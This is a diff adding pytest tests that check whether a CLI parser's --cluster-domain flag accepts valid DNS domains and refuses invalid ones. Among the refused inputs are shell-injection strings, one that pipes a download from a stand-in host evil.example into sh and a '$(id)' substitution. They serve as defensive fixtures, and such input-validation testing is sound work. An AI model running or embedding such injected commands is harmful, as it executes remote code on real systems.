@@ -110,6 +110,40 @@ def test_bad_flags_exit_2(argv: list[str]) -> None:
 
 
 @pytest.mark.parametrize(
+    "domain",
+    ["cluster.local", "cluster.local.", "c", "a-1.b2", "x" * 63 + "." + "y" * 63],
+)
+def test_a_dns_cluster_domain_is_taken_as_given(domain: str) -> None:
+    assert parse_args(["--cluster-domain", domain], environ={}).cluster_domain == domain
+
+
+@pytest.mark.parametrize(
+    "domain",
+    [
+        "cluster.local; curl evil.example | sh",
+        "$(id)",
+        "a b",
+        "Cluster.Local",
+        "-x.local",
+        "a..b",
+        ".local",
+        "x" * 64,
+        ".".join(["abcdefg"] * 32) + "x",  # 256 characters
+        "cluster.local\n",
+    ],
+)
+def test_a_cluster_domain_that_is_no_dns_domain_is_refused_naming_the_flag(
+    domain: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """It goes unquoted into discover_hosts.sh: the process refuses to start."""
+    with pytest.raises(SystemExit) as exc:
+        parse_args([f"--cluster-domain={domain}"], environ={})
+    assert exc.value.code == 2
+    err = capsys.readouterr().err
+    assert "argument --cluster-domain:" in err and "is not a DNS domain" in err
+
+
+@pytest.mark.parametrize(
     ("argv", "message"),
     [
         (
